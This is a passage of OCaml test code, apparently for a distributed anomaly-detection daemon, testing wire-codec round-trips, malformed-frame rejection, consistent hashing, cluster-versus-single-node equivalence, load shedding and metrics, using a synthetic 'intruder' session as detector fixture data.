    (Frame.Hello
       { version = 2; peer = "router"; sample = Some (123_456_789L, 987_654_321L) });
  roundtrip_frame (Frame.Ack { count = 123_456 });
  roundtrip_frame Frame.Metrics_req;
  roundtrip_frame (Frame.Metrics_resp "adprom_events_ingested_total 42\n");
  roundtrip_frame Frame.Bye;
  roundtrip_frame (Frame.Clock_probe { seq = 7 });
  roundtrip_frame
    (Frame.Clock_reply { seq = 7; mono_ns = 55_123_000L; wall_ns = 1_700_000_000_000_000_000L });
  roundtrip_frame
    (Frame.Trace_mark { trace_id = 42; send_mono_ns = 99_000L; offset_ns = -12_345L });
  roundtrip_frame Frame.Health_req;
  roundtrip_frame
    (Frame.Health_resp
       {
         Frame.h_node = "alpha";
         h_status = Adprom_service.Health.Degraded;
         h_snapshot =
           {
             Adprom_service.Metrics.counters = [ ("adprom_events_offered_total", 10) ];
             gauges = [ ("adprom_queue_depth_shard0", 3, 7) ];
             histograms =
               [
                 {
                   Adprom_service.Metrics.hs_name = "adprom_e2e_latency_seconds";
                   hs_bounds = [| 0.001; 0.1 |];
                   hs_buckets = [| 2; 1; 0 |];
                   hs_sum = 0.0521;
                   hs_count = 3;
                 };
               ];
           };
         h_incidents = [ (97, "verdict out-of-context ...") ];
         h_uptime_s = 12.5;
       });
  roundtrip_frame Frame.Spans_req;
  roundtrip_frame
    (Frame.Spans_resp
       [
         {
           Adprom_obs.Trace.name = "wire.batch";
           trace_id = 42;
           span_id = 43;
           parent = None;
           domain = 0;
           start_ns = 1_000L;
           dur_ns = 2_500L;
           attrs = [ ("items", "12") ];
         };
       ]);
  let verdicts =
    [
      { Detector.flag = Detector.Normal; score = -1.234567890123; unknown_symbol = false; unknown_pair = None };
      {
        Detector.flag = Detector.Out_of_context;
        score = Float.min_float;
        unknown_symbol = true;
        unknown_pair = Some ("intruder", Symbol.Lib { name = "evil"; label = Some 3; site = None });
      };
    ]
  in
  roundtrip_frame
    (Frame.Summary
       {
         Frame.node = "alpha";
         summary =
           {
             Daemon.sessions =
               [
                 {
                   Daemon.session = 0;
                   events = 17;
                   windows = 3;
                   worst = Detector.Out_of_context;
                   verdicts;
                   qsig_checks = 2;
                   qsig_anomalies = 1;
                 };
               ];
             shed = [ (9, 120, 37) ];
             events_offered = 137;
             events_ingested = 17;
             events_dropped = 120;
           };
         incidents = [ (0, "verdict out-of-context ...") ];
         fused = [ (0, Alerts.Both_axes) ];
       })

let test_score_bits_survive () =
  (* scores travel as IEEE-754 bits, not decimal text: even a payload
     that decimal printing would round must come back identical *)
  let score = 0x3FF123456789ABCDL in
  let v =
    {
      Detector.flag = Detector.Anomalous;
      score = Int64.float_of_bits score;
      unknown_symbol = false;
      unknown_pair = None;
    }
  in
  let f =
    Frame.Summary
      {
        Frame.node = "n";
        summary =
          {
            Daemon.sessions =
              [
                {
                  Daemon.session = 1;
                  events = 1;
                  windows = 1;
                  worst = Detector.Anomalous;
                  verdicts = [ v ];
                  qsig_checks = 0;
                  qsig_anomalies = 0;
                };
              ];
            shed = [];
            events_offered = 1;
            events_ingested = 1;
            events_dropped = 0;
          };
        incidents = [];
        fused = [];
      }
  in
  let enc = Frame.Encoder.create () in
  let buf = Buffer.create 64 in
  Frame.Encoder.add enc buf f;
  Frame.Encoder.flush enc buf;
  match Frame.Decoder.feed (Frame.Decoder.create ()) (Buffer.contents buf) with
  | Ok [ Frame.Summary s ] ->
      let v' = List.hd (List.hd s.Frame.summary.Daemon.sessions).Daemon.verdicts in
      Alcotest.(check bool) "score bits identical" true
        (Int64.bits_of_float v'.Detector.score = score)
  | _ -> Alcotest.fail "summary did not round-trip"

let test_decode_errors_are_structured () =
  let check_error needle bytes =
    match Transport.decode_all (module Frame.T) bytes with
    | Ok _ -> Alcotest.failf "expected an error mentioning %S" needle
    | Error e ->
        Alcotest.(check bool)
          (Printf.sprintf "error %S mentions %S" e needle)
          true (contains ~needle e)
  in
  (* wrong magic: a text line fed to the binary decoder *)
  check_error "bad magic" "1\tmain\t3\tlib:read:-:-\n";
  (* future version *)
  check_error "version" (Frame.magic ^ "\x63\x02\x00\x00\x00\x00");
  (* unknown frame type *)
  check_error "frame type" (Frame.magic ^ "\x01\x63\x00\x00\x00\x00");
  (* oversized payload length *)
  check_error "exceeds" (Frame.magic ^ "\x01\x02\x7f\xff\xff\xff");
  (* truncated mid-frame *)
  check_error "truncated" (Frame.magic ^ "\x01\x02\x00\x00\x00\x10abc");
  (* a control frame where items are expected *)
  let enc = Frame.Encoder.create () in
  let buf = Buffer.create 16 in
  Frame.Encoder.add enc buf Frame.Bye;
  Frame.Encoder.flush enc buf;
  check_error "bye" (Buffer.contents buf);
  (* the decoder stays dead after an error *)
  let dec = Frame.T.decoder () in
  (match Frame.T.feed dec "not a frame at all....." with
  | Ok _ -> Alcotest.fail "garbage accepted"
  | Error _ -> ());
  match Frame.T.feed dec (encode_items [ ]) with
  | Ok _ -> Alcotest.fail "decoder resurrected after error"
  | Error _ -> ()

let test_detect () =
  let items =
    [ Transport.Call { Transport.session = 0; event = { Runtime.Collector.caller = "main"; block = 1; symbol = Symbol.Entry } } ]
  in
  Alcotest.(check bool) "binary detected" true
    (Frame.detect (encode_items items) = Transport.Binary);
  Alcotest.(check bool) "text detected" true
    (Frame.detect (Transport.encode_all (module Transport.Text) (Array.of_list items)) = Transport.Line);
  Alcotest.(check bool) "empty is text" true (Frame.detect "" = Transport.Line)

(* --- negative row counts (regression) --------------------------------------- *)

let test_negative_rows_rejected () =
  (match Transport.Text.parse_query_line "q\t1\t-5\tSELECT name FROM t" with
  | Ok _ -> Alcotest.fail "negative row count accepted"
  | Error e ->
      Alcotest.(check bool) "names the defect" true
        (contains ~needle:"negative row count" e));
  (* through the streaming decoder, with the line number *)
  (match Codec.decode_mixed "q\t1\t2\tSELECT name FROM t\nq\t1\t-3\tSELECT name FROM t" with
  | Ok _ -> Alcotest.fail "negative row count accepted by decode"
  | Error e ->
      Alcotest.(check bool) (Printf.sprintf "%S names line 2" e) true
        (contains ~needle:"line 2:" e));
  (* plain Codec.decode (call events only) validates query lines too *)
  (match Codec.decode "q\t1\t-3\tSELECT name FROM t" with
  | Ok _ -> Alcotest.fail "negative row count accepted by Codec.decode"
  | Error _ -> ());
  (* and the binary encoder refuses to emit one *)
  let enc = Frame.Encoder.create () in
  let buf = Buffer.create 16 in
  match
    Frame.Encoder.add enc buf
      (Frame.Query { Transport.q_session = 1; rows = -1; sql = "SELECT" })
  with
  | () -> Alcotest.fail "binary encoder accepted a negative row count"
  | exception Invalid_argument _ -> ()

(* A 9-byte varint whose final byte spills into the sign bit decodes to
   a negative OCaml int. The text parser and the binary encoder both
   reject negative sessions/rows, so crafted binary frames must not be
   the one path that smuggles them through to the daemon. *)
let test_negative_varints_rejected () =
  let neg_varint = "\x80\x80\x80\x80\x80\x80\x80\x80\x7f" in
  let frame tag payload =
    let len = String.length payload in
    Printf.sprintf "%s\x01%c%c%c%c%c%s" Frame.magic (Char.chr tag)
      (Char.chr (len lsr 24 land 0xff))
      (Char.chr (len lsr 16 land 0xff))
      (Char.chr (len lsr 8 land 0xff))
      (Char.chr (len land 0xff))
      payload
  in
  let check_frame_rejected what bytes =
    match Frame.Decoder.feed (Frame.Decoder.create ()) bytes with
    | Ok _ -> Alcotest.failf "%s accepted by the frame decoder" what
    | Error e ->
        Alcotest.(check bool)
          (Printf.sprintf "%s rejected as malformed" what)
          true
          (match e with Frame.Bad_payload _ -> true | _ -> false)
  in
  let check_items_rejected what bytes =
    match Transport.decode_all (module Frame.T) bytes with
    | Ok _ -> Alcotest.failf "%s accepted by the item decoder" what
    | Error _ -> ()
  in
  (* query: negative rows, negative session *)
  let q_neg_rows = frame 3 ("\x01" ^ neg_varint ^ "\x00") in
  let q_neg_session = frame 3 (neg_varint ^ "\x00\x00") in
  (* call: negative session (strref defines caller "m" inline, block 0,
     symbol entry), and a negative string reference *)
  let call_neg_session = frame 2 (neg_varint ^ "\x00\x01m\x00\x00") in
  let call_neg_strref = frame 2 ("\x01" ^ neg_varint ^ "\x00\x00") in
  let ack_neg_count = frame 1 neg_varint in
  check_frame_rejected "negative row count" q_neg_rows;
  check_frame_rejected "negative query session" q_neg_session;
  check_frame_rejected "negative call session" call_neg_session;
  check_frame_rejected "negative string reference" call_neg_strref;
  check_frame_rejected "negative ack count" ack_neg_count;
  check_items_rejected "negative row count" q_neg_rows;
  check_items_rejected "negative query session" q_neg_session;
  check_items_rejected "negative call session" call_neg_session;
  check_items_rejected "negative string reference" call_neg_strref

let test_text_chunked_feed () =
  let text = "1\tmain\t3\tlib:read:-:-\nq\t1\t2\tSELECT name FROM t\n2\tmain\t1\tentry\n" in
  let whole =
    match Transport.decode_all (module Transport.Text) text with
    | Ok items -> Array.to_list items
    | Error e -> Alcotest.failf "whole decode failed: %s" e
  in
  let dec = Transport.Text.decoder () in
  let got = ref [] in
  String.iteri
    (fun i _ ->
      match Transport.Text.feed dec ~pos:i ~len:1 text with
      | Ok items -> got := !got @ items
      | Error e -> Alcotest.failf "byte-at-a-time feed failed: %s" e)
    text;
  (match Transport.Text.finish dec with
  | Ok items -> got := !got @ items
  | Error e -> Alcotest.failf "finish failed: %s" e);
  Alcotest.(check bool) "byte-at-a-time = whole buffer" true (!got = whole)

(* --- consistent-hash ring ---------------------------------------------------- *)

let test_ring_deterministic () =
  let r1 = Cluster.Ring.create [ "alpha"; "beta"; "gamma" ] in
  let r2 = Cluster.Ring.create [ "alpha"; "beta"; "gamma" ] in
  for s = 0 to 499 do
    Alcotest.(check string)
      (Printf.sprintf "session %d stable" s)
      (Cluster.Ring.node r1 s) (Cluster.Ring.node r2 s)
  done

let test_ring_balance () =
  let nodes = [ "alpha"; "beta"; "gamma" ] in
  let ring = Cluster.Ring.create nodes in
  let counts = Hashtbl.create 4 in
  let sessions = 3000 in
  for s = 0 to sessions - 1 do
    let n = Cluster.Ring.node ring s in
    Hashtbl.replace counts n (1 + Option.value ~default:0 (Hashtbl.find_opt counts n))
  done;
  List.iter
    (fun n ->
      let c = Option.value ~default:0 (Hashtbl.find_opt counts n) in
      Alcotest.(check bool)
        (Printf.sprintf "%s holds a fair share (%d/%d)" n c sessions)
        true
        (c > sessions * 15 / 100))
    nodes

let test_ring_minimal_remap () =
  let three = Cluster.Ring.create [ "alpha"; "beta"; "gamma" ] in
  let two = Cluster.Ring.create [ "alpha"; "beta" ] in
  let moved = ref 0 in
  for s = 0 to 999 do
    let before = Cluster.Ring.node three s in
    let after = Cluster.Ring.node two s in
    if before <> "gamma" then
      Alcotest.(check string)
        (Printf.sprintf "session %d stays put when gamma leaves" s)
        before after
    else incr moved
  done;
  Alcotest.(check bool) "gamma owned something" true (!moved > 0)

let test_peer_of_string () =
  (match Cluster.peer_of_string "alpha=127.0.0.1:7411" with
  | Ok p ->
      Alcotest.(check string) "name" "alpha" p.Cluster.peer_name;
      Alcotest.(check string) "host" "127.0.0.1" p.Cluster.host;
      Alcotest.(check int) "port" 7411 p.Cluster.port
  | Error e -> Alcotest.fail e);
  (match Cluster.peer_of_string ":7411" with
  | Ok p -> Alcotest.(check string) "default host" "127.0.0.1" p.Cluster.host
  | Error e -> Alcotest.fail e);
  match Cluster.peer_of_string "nonsense" with
  | Ok _ -> Alcotest.fail "bad address accepted"
  | Error _ -> ()

(* --- 2-node cluster vs single-node replay ------------------------------------ *)

let fixture =
  lazy
    (let app =
       {
         Pipeline.name = "svc";
         source =
           {|
             fun main() {
               let db = db_connect("pg");
               let n = atoi(gets());
               for (let i = 0; i < n; i = i + 1) {
                 let r = pq_exec(db, "SELECT name FROM t");
                 let k = pq_ntuples(r);
                 for (let j = 0; j < k; j = j + 1) { printf("%s\n", pq_getvalue(r, j, 0)); }
               }
             }
           |};
         dbms = "PostgreSQL";
         setup_db =
           (fun e ->
             ignore (Sqldb.Engine.exec e "CREATE TABLE t (name)");
             ignore (Sqldb.Engine.exec e "INSERT INTO t VALUES ('a'), ('b')"));
         test_cases =
           List.init 8 (fun i ->
               Runtime.Testcase.make
                 ~input:[ string_of_int (1 + (i mod 4)) ]
                 (Printf.sprintf "c%d" i));
       }
     in
     let ds = Pipeline.collect app in
     (Pipeline.train ds, Adprom.Qsig.profile (Pipeline.train_qsig app),
      List.map snd ds.Pipeline.traces))

let cluster_items () =
  let _, _, traces = Lazy.force fixture in
  let rng = Mlkit.Rng.create 23 in
  let stream = Sessions.interleave ~rng traces in
  let foreign =
    (* one intruder session: library calls the profile never saw, so the
       sequence axis must raise incidents *)
    Array.init 20 (fun i ->
        {
          Transport.session = 97;
          event =
            {
              Runtime.Collector.caller = "intruder";
              block = 3;
              symbol = Symbol.Lib { name = Printf.sprintf "evil%d" (i mod 3); label = None; site = None };
            };
        })
  in
  let queries =
    (* normal per-session queries, plus an unknown signature for the
       intruder: the query axis fires on it under Qsig_warn *)
    List.init 8 (fun i ->
        Transport.Query { Transport.q_session = i; rows = 2; sql = "SELECT name FROM t" })
    @ [ Transport.Query { Transport.q_session = 97; rows = 2; sql = "SELECT name, name FROM t" } ]
  in
  Array.concat
    [
      Array.map (fun ev -> Transport.Call ev) (Array.append stream foreign);
      Array.of_list queries;
    ]

let verdict_key (v : Detector.verdict) =
  (v.Detector.flag, Int64.bits_of_float v.Detector.score, v.Detector.unknown_symbol, v.Detector.unknown_pair)

let session_key (r : Daemon.session_report) =
  ( r.Daemon.session,
    r.Daemon.events,
    r.Daemon.windows,
    r.Daemon.worst,
    List.map verdict_key r.Daemon.verdicts,
    r.Daemon.qsig_checks,
    r.Daemon.qsig_anomalies )

let incident_multiset (alerts : Alerts.t) =
  List.sort compare
    (List.map
       (fun (i : Alerts.incident) -> (i.Alerts.session, Alerts.source_to_string i.Alerts.source))
       (Alerts.incidents alerts))

let test_two_node_cluster_matches_single () =
  let profile, qsig_profile, _ = Lazy.force fixture in
  let items = cluster_items () in
  (* Fork the nodes FIRST: a process that has ever spawned domains must
     not fork, and the single-node reference replay spawns domains. *)
  let node name =
    Cluster.spawn_local ~name (fun socket ->
        ignore
          (Server.serve ~socket ~name ~shards:2 ~qsig_mode:Daemon.Qsig_warn
             ~qsig_profile profile))
  in
  let a = node "alpha" and b = node "beta" in
  let peers =
    [
      { Cluster.peer_name = "alpha"; host = "127.0.0.1"; port = a.Cluster.port };
      { Cluster.peer_name = "beta"; host = "127.0.0.1"; port = b.Cluster.port };
    ]
  in
  let summaries =
    match Cluster.Router.connect peers with
    | Error e -> Alcotest.failf "connect: %s" e
    | Ok router -> (
        (match Cluster.Router.send_stream router items with
        | Ok () -> ()
        | Error e -> Alcotest.failf "send: %s" e);
        (match Cluster.Router.metrics router with
        | Ok dump ->
            Alcotest.(check bool) "aggregated metrics carry ingest totals" true
              (contains ~needle:"adprom_events_ingested_total" dump)
        | Error e -> Alcotest.failf "metrics: %s" e);
        Alcotest.(check int) "no items lost" 0 (Cluster.Router.lost_items router);
        match Cluster.Router.finish router with
        | Error e -> Alcotest.failf "finish: %s" e
        | Ok summaries ->
            Alcotest.(check int) "two summaries" 2 (List.length summaries);
            summaries)
  in
  Cluster.wait_local a;
  Cluster.wait_local b;
  let merged = Cluster.merge summaries in
  (* now the reference: the same items through one local daemon *)
  let single =
    Replay.run_items ~shards:2 ~qsig_mode:Daemon.Qsig_warn ~qsig_profile profile
      items
  in
  let s = single.Replay.summary in
  let m = merged.Frame.summary in
  (* the ring actually spread the sessions: both nodes saw work *)
  List.iter
    (fun ns ->
      Alcotest.(check bool)
        (Printf.sprintf "node %s got sessions" ns.Frame.node)
        true
        (ns.Frame.summary.Daemon.sessions <> []))
    summaries;
  Alcotest.(check int) "events ingested" s.Daemon.events_ingested m.Daemon.events_ingested;
  Alcotest.(check int) "events offered" s.Daemon.events_offered m.Daemon.events_offered;
  Alcotest.(check int) "events dropped" s.Daemon.events_dropped m.Daemon.events_dropped;
  Alcotest.(check bool) "nothing shed" true (s.Daemon.shed = [] && m.Daemon.shed = []);
  (* per-session reports, verdict scores compared as IEEE-754 bits *)
  Alcotest.(check bool) "session reports bit-for-bit equal" true
    (List.map session_key s.Daemon.sessions = List.map session_key m.Daemon.sessions);
  (* the intruder was caught on both paths *)
  Alcotest.(check bool) "intruder flagged" true
    (List.exists
       (fun (r : Daemon.session_report) ->
         r.Daemon.session = 97
         && (r.Daemon.worst = Detector.Out_of_context || r.Daemon.worst = Detector.Data_leak))
       m.Daemon.sessions);
  (* incident log: same (session, payload) multiset — seq numbers and
     timestamps are per-node and excluded by construction *)
  Alcotest.(check bool) "incident multiset equal" true
    (incident_multiset single.Replay.alerts
    = List.sort compare merged.Frame.incidents);
  Alcotest.(check bool) "incidents exist" true (merged.Frame.incidents <> []);
  (* fused axes per session *)
  let single_fused =
    List.sort compare
      (List.map
         (fun (r : Daemon.session_report) ->
           (r.Daemon.session, Alerts.fused_axes single.Replay.alerts ~session:r.Daemon.session))
         s.Daemon.sessions)
  in
  Alcotest.(check bool) "fused axes equal" true
    (single_fused = List.sort compare merged.Frame.fused);
  Alcotest.(check bool) "intruder fused both axes" true
    (List.assoc_opt 97 merged.Frame.fused = Some Alerts.Both_axes)

let () =
  Alcotest.run "cluster"
    [
      ( "binary codec",
        [
          QCheck_alcotest.to_alcotest prop_binary_roundtrip_chunked;
          QCheck_alcotest.to_alcotest prop_truncated_never_raises;
          QCheck_alcotest.to_alcotest prop_corrupt_never_raises;
          Alcotest.test_case "control frames round-trip" `Quick test_control_frames;
          Alcotest.test_case "score bits survive the wire" `Quick test_score_bits_survive;
          Alcotest.test_case "structured decode errors" `Quick test_decode_errors_are_structured;
          Alcotest.test_case "format autodetection" `Quick test_detect;
        ] );
      ( "transport",
        [
          Alcotest.test_case "negative row counts rejected" `Quick test_negative_rows_rejected;
          Alcotest.test_case "negative binary varints rejected" `Quick
            test_negative_varints_rejected;
          Alcotest.test_case "text byte-at-a-time feed" `Quick test_text_chunked_feed;
        ] );
      ( "ring",
        [
          Alcotest.test_case "deterministic" `Quick test_ring_deterministic;
          Alcotest.test_case "balanced" `Quick test_ring_balance;
          Alcotest.test_case "minimal remap" `Quick test_ring_minimal_remap;
          Alcotest.test_case "peer addresses" `Quick test_peer_of_string;
        ] );
      ( "cluster",
        [
          Alcotest.test_case "2 nodes = 1 node, bit for bit" `Quick
            test_two_node_cluster_matches_single;
        ] );
    ]

(* Tests for the online monitoring daemon (Adprom_service): wire codec
   round-trips and error reporting, incremental scoring vs the batch
   detection loop, shed accounting under overload, shard determinism,
   the metrics registry and the unified incident log — plus QCheck
   properties for Core.Sessions (demux inverts interleave; per-session
   windowing equals per-trace windowing). *)

module Codec = Adprom_service.Codec
module Scorer = Adprom_service.Scorer
module Metrics = Adprom_service.Metrics
module Alerts = Adprom_service.Alerts
module Daemon = Adprom_service.Daemon
module Replay = Adprom_service.Replay
module Detector = Adprom.Detector
module Profile = Adprom.Profile
module Pipeline = Adprom.Pipeline
module Sessions = Adprom.Sessions
module Window = Adprom.Window
module Symbol = Analysis.Symbol

let contains ~needle hay =
  let nl = String.length needle and hl = String.length hay in
  if nl = 0 then true
  else begin
    let found = ref false in
    for i = 0 to hl - nl do
      if (not !found) && String.sub hay i nl = needle then found := true
    done;
    !found
  end

(* --- shared fixture: a small trained profile and its traces ---------------- *)

let fixture =
  lazy
    (let app =
       {
         Pipeline.name = "svc";
         source =
           {|
             fun main() {
               let db = db_connect("pg");
               let n = atoi(gets());
               for (let i = 0; i < n; i = i + 1) {
                 let r = pq_exec(db, "SELECT name FROM t");
                 let k = pq_ntuples(r);
                 for (let j = 0; j < k; j = j + 1) { printf("%s\n", pq_getvalue(r, j, 0)); }
               }
             }
           |};
         dbms = "PostgreSQL";
         setup_db =
           (fun e ->
             ignore (Sqldb.Engine.exec e "CREATE TABLE t (name)");
             ignore (Sqldb.Engine.exec e "INSERT INTO t VALUES ('a'), ('b')"));
         test_cases =
           List.init 8 (fun i ->
               Runtime.Testcase.make
                 ~input:[ string_of_int (1 + (i mod 4)) ]
                 (Printf.sprintf "c%d" i));
       }
     in
     let ds = Pipeline.collect app in
     (ds, Pipeline.train ds))

let traces () =
  let ds, _ = Lazy.force fixture in
  List.map snd ds.Pipeline.traces

let profile () = snd (Lazy.force fixture)

let interleaved seed =
  let rng = Mlkit.Rng.create seed in
  Sessions.interleave ~rng (traces ())

(* --- codec ----------------------------------------------------------------- *)

let mk_event ?(label = None) ?(site = None) ?(caller = "main") ?(block = 3) name =
  {
    Runtime.Collector.symbol = Symbol.Lib { name; label; site };
    caller;
    block;
  }

let test_codec_roundtrip () =
  let stream =
    [|
      { Codec.session = 0; event = mk_event "read" };
      { Codec.session = 7; event = mk_event ~label:(Some 4) ~site:(Some 9) "pq_getvalue" };
      { Codec.session = 0; event = { Runtime.Collector.symbol = Symbol.Entry; caller = "f"; block = -1 } };
      { Codec.session = 12; event = { Runtime.Collector.symbol = Symbol.Func "helper"; caller = "g"; block = 2 } };
    |]
  in
  match Codec.decode (Codec.encode stream) with
  | Error e -> Alcotest.failf "decode failed: %s" e
  | Ok stream' ->
      Alcotest.(check int) "length" (Array.length stream) (Array.length stream');
      Array.iteri
        (fun i ev -> Alcotest.(check bool) "event equal" true (ev = stream'.(i)))
        stream

let test_codec_roundtrip_real_stream () =
  let stream = interleaved 11 in
  match Codec.decode (Codec.encode stream) with
  | Error e -> Alcotest.failf "decode failed: %s" e
  | Ok stream' -> Alcotest.(check bool) "identical" true (stream = stream')

let expect_error_line n text =
  match Codec.decode text with
  | Ok _ -> Alcotest.failf "expected a parse error for %S" text
  | Error e ->
      let prefix = Printf.sprintf "line %d:" n in
      Alcotest.(check bool)
        (Printf.sprintf "error %S names line %d" e n)
        true
        (String.length e >= String.length prefix
        && String.sub e 0 (String.length prefix) = prefix)

let test_codec_errors () =
  let good = Codec.encode_event { Codec.session = 1; event = mk_event "read" } in
  (* bad session id *)
  expect_error_line 1 "x\tmain\t3\tlib:read:-:-";
  (* negative session id *)
  expect_error_line 1 "-2\tmain\t3\tlib:read:-:-";
  (* truncated fields *)
  expect_error_line 2 (good ^ "\n1\tmain\t3");
  (* bad block id *)
  expect_error_line 3 (good ^ "\n" ^ good ^ "\n1\tmain\tx\tlib:read:-:-");
  (* bad symbol *)
  expect_error_line 1 "1\tmain\t3\tnonsense";
  (* blank lines and comments are fine and keep line numbering honest *)
  (match Codec.decode ("# header\n\n" ^ good ^ "\n\n") with
  | Ok s -> Alcotest.(check int) "one event" 1 (Array.length s)
  | Error e -> Alcotest.failf "unexpected error: %s" e);
  expect_error_line 4 ("# header\n\n" ^ good ^ "\nbroken")

let test_trace_io_errors () =
  let check_err needle text =
    match Runtime.Trace_io.of_string text with
    | Ok _ -> Alcotest.failf "expected failure on %S" text
    | Error e ->
        Alcotest.(check bool)
          (Printf.sprintf "%S mentions %S" e needle)
          true
          (contains ~needle e)
  in
  (* truncated fields *)
  check_err "line 1" "main\t3";
  (* bad block id *)
  check_err "bad block id" "main\tnine\tlib:read:-:-";
  check_err "line 2" "main\t3\tlib:read:-:-\nmain\tnine\tlib:read:-:-";
  (* bad symbol *)
  check_err "line 1" "main\t3\twhat";
  (* trailing newlines / CRLF are tolerated *)
  (match Runtime.Trace_io.of_string "main\t3\tlib:read:-:-\r\n\n\n" with
  | Ok t -> Alcotest.(check int) "one event" 1 (Array.length t)
  | Error e -> Alcotest.failf "unexpected error: %s" e);
  (* empty input is an empty trace, not an error *)
  match Runtime.Trace_io.of_string "" with
  | Ok t -> Alcotest.(check int) "empty" 0 (Array.length t)
  | Error e -> Alcotest.failf "unexpected error: %s" e

(* --- scorer vs batch -------------------------------------------------------- *)

let test_scorer_matches_batch () =
  let profile = profile () in
  List.iter
    (fun trace ->
      let batch = List.map snd (Detector.monitor profile trace) in
      let scorer = Scorer.create profile in
      let live = ref [] in
      Array.iter
        (fun e ->
          match Scorer.push scorer e with
          | Ok (Some v) -> live := v :: !live
          | Ok None -> ()
          | Error e -> Alcotest.failf "push rejected: %s" e)
        trace;
      (match Scorer.flush scorer with Some v -> live := v :: !live | None -> ());
      let live = List.rev !live in
      Alcotest.(check int) "window count" (List.length batch) (List.length live);
      List.iter2
        (fun (b : Detector.verdict) (l : Detector.verdict) ->
          Alcotest.(check bool) "same flag" true (b.Detector.flag = l.Detector.flag);
          Alcotest.(check bool) "same score" true
            (b.Detector.score = l.Detector.score
            || (Float.is_nan b.Detector.score && Float.is_nan l.Detector.score)))
        batch live)
    (traces ())

let test_scorer_short_trace () =
  let profile = profile () in
  let trace = Array.init 4 (fun i -> mk_event (Printf.sprintf "s%d" i)) in
  let scorer = Scorer.create profile in
  Array.iter (fun e -> ignore (Scorer.push scorer e)) trace;
  Alcotest.(check int) "no window before flush" 0 (Scorer.windows_scored scorer);
  (match Scorer.flush scorer with
  | Some _ -> ()
  | None -> Alcotest.fail "short trace must yield its whole-trace window at flush");
  Alcotest.(check int) "one window" 1 (Scorer.windows_scored scorer);
  (* flush is idempotent *)
  Alcotest.(check bool) "idempotent" true (Scorer.flush scorer = None)

let test_scorer_push_after_flush () =
  let profile = profile () in
  let scorer = Scorer.create profile in
  (match Scorer.push scorer (mk_event "read") with
  | Ok _ -> ()
  | Error e -> Alcotest.failf "live push rejected: %s" e);
  ignore (Scorer.flush scorer);
  (* the protocol slip is a soft error the daemon can count, never an
     exception that would take the whole shard down *)
  match Scorer.push scorer (mk_event "read") with
  | Error msg ->
      Alcotest.(check bool) "error names the flush" true (contains ~needle:"flush" msg);
      Alcotest.(check int) "rejected event not counted" 1 (Scorer.events_seen scorer)
  | Ok _ -> Alcotest.fail "push after flush must return Error"

(* --- daemon ------------------------------------------------------------------ *)

let test_daemon_matches_batch () =
  let profile = profile () in
  let stream = interleaved 23 in
  let outcome = Replay.run ~shards:3 profile stream in
  let summary = outcome.Replay.summary in
  Alcotest.(check int) "nothing shed" 0 (List.length summary.Daemon.shed);
  Alcotest.(check int) "all ingested"
    (Array.length stream)
    summary.Daemon.events_ingested;
  Alcotest.(check int) "session count"
    (List.length (traces ()))
    (List.length summary.Daemon.sessions);
  let mismatches = Replay.verify_against_batch profile stream summary in
  if mismatches <> [] then
    Alcotest.failf "daemon diverged from batch: %s"
      (String.concat "; " (List.map Replay.mismatch_to_string mismatches))

let test_daemon_shard_determinism () =
  let profile = profile () in
  let stream = interleaved 5 in
  let flags outcome =
    List.map
      (fun (r : Daemon.session_report) ->
        (r.Daemon.session, List.map (fun v -> v.Detector.flag) r.Daemon.verdicts))
      outcome.Replay.summary.Daemon.sessions
  in
  let a = Replay.run ~shards:4 profile stream in
  let b = Replay.run ~shards:4 profile stream in
  let c = Replay.run ~shards:1 profile stream in
  Alcotest.(check bool) "same shards, same verdicts" true (flags a = flags b);
  Alcotest.(check bool) "shard count does not change verdicts" true (flags a = flags c)

let test_daemon_sheds_whole_sessions () =
  let profile = profile () in
  let stream = interleaved 7 in
  (* capacity 0: every admission overflows, so every session is shed on
     its first event and every single event must be counted as dropped *)
  let outcome = Replay.run ~shards:2 ~queue_capacity:0 profile stream in
  let summary = outcome.Replay.summary in
  Alcotest.(check int) "no survivors" 0 (List.length summary.Daemon.sessions);
  Alcotest.(check int) "every session shed"
    (List.length (traces ()))
    (List.length summary.Daemon.shed);
  Alcotest.(check int) "every event dropped"
    (Array.length stream)
    summary.Daemon.events_dropped;
  Alcotest.(check int) "nothing ingested" 0 summary.Daemon.events_ingested;
  let counted =
    List.fold_left (fun acc (_, dropped, _) -> acc + dropped) 0 summary.Daemon.shed
  in
  Alcotest.(check int) "per-session drops add up" (Array.length stream) counted;
  (* the drop counters agree with the summary *)
  let m = Metrics.dump outcome.Replay.metrics in
  Alcotest.(check bool) "dropped counter in dump" true
    (contains
       ~needle:(Printf.sprintf "adprom_events_dropped_total %d" (Array.length stream))
       m)

let test_daemon_conservation_under_pressure () =
  let profile = profile () in
  let stream = interleaved 13 in
  (* tiny queues: whether a given session survives depends on worker
     timing, but accounting must balance exactly either way *)
  let outcome = Replay.run ~shards:2 ~queue_capacity:1 profile stream in
  let summary = outcome.Replay.summary in
  Alcotest.(check int) "offered = ingested + dropped"
    summary.Daemon.events_offered
    (summary.Daemon.events_ingested + summary.Daemon.events_dropped);
  Alcotest.(check int) "offered = stream size"
    (Array.length stream)
    summary.Daemon.events_offered;
  (* every event of a surviving session was scored or buffered; every
     shed session's events are in its shed entry *)
  let surviving =
    List.fold_left (fun acc (r : Daemon.session_report) -> acc + r.Daemon.events) 0
      summary.Daemon.sessions
  in
  let shed_events =
    List.fold_left
      (fun acc (_, dropped, discarded) -> acc + dropped + discarded)
      0 summary.Daemon.shed
  in
  Alcotest.(check int) "no event unaccounted"
    (Array.length stream)
    (surviving + shed_events);
  (* shed sessions never report verdicts *)
  List.iter
    (fun (s, _, _) ->
      Alcotest.(check bool) "shed session absent from reports" true
        (not
           (List.exists
              (fun (r : Daemon.session_report) -> r.Daemon.session = s)
              summary.Daemon.sessions)))
    summary.Daemon.shed

(* --- metrics ----------------------------------------------------------------- *)

let test_metrics_registry () =
  let m = Metrics.create () in
  let c = Metrics.counter m "requests_total" in
  Metrics.incr c;
  Metrics.incr ~by:4 c;
  Alcotest.(check int) "counter" 5 (Metrics.counter_value c);
  Alcotest.(check bool) "get-or-create returns the same counter" true
    (Metrics.counter_value (Metrics.counter m "requests_total") = 5);
  let g = Metrics.gauge m "depth" in
  Metrics.set_gauge g 7;
  Metrics.set_gauge g 3;
  Alcotest.(check int) "gauge holds last value" 3 (Metrics.gauge_value g);
  Alcotest.(check int) "gauge high-watermark" 7 (Metrics.gauge_max g);
  let h = Metrics.histogram ~buckets:[| 0.1; 1.0 |] m "lat" in
  List.iter (Metrics.observe h) [ 0.05; 0.05; 0.5; 5.0 ];
  Alcotest.(check int) "histogram count" 4 (Metrics.histogram_count h);
